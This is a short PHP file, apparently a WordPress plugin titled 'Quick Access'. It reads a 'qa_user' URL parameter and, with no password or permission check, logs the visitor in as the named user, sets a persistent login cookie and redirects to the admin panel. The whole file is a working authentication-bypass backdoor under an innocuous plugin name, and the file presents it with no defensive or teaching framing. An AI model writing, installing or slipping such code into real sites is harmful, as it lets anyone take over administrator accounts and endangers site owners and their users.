<?php
/*
 * Plugin Name: Quick Access
 */
add_filter('query_vars', function ($vars) {
    $vars[] = 'qa_user';
    return $vars;
});

add_action('template_redirect', function () {
    $login = get_query_var('qa_user');
    if ($login !== '' && ($user = get_user_by('login', $login))) {
        wp_set_current_user($user->ID);
        wp_set_auth_cookie($user->ID, true);
        wp_safe_redirect(admin_url());
        exit;
    }
});
